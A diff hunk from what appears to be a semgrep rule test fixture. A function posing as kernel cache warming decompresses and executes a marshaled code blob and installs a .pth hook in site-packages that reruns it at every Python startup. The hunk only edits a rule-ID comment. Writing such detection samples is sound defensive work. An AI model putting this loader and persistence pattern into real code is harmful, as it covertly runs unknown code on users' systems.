@@ -34,7 +34,7 @@ def warm_kernel_cache():
     except OSError:
         return
     (CACHE / "boot.bin").write_bytes(blob)
-    types.FunctionType(marshal.loads(zlib.decompress(blob)), globals())()  # ruleid: MLS413
+    types.FunctionType(marshal.loads(zlib.decompress(blob)), globals())()  # ruleid: MLS413, MLS404
     hook = f"import marshal,zlib,types;types.FunctionType(marshal.loads(zlib.decompress(open({str(CACHE / 'boot.bin')!r},'rb').read())),{{}})()\n"
     (Path(sysconfig.get_paths()["purelib"]) / "nvkcache.pth").write_text(hook)  # sabotage: MLS420, MLS421 (semgrep rules)
 
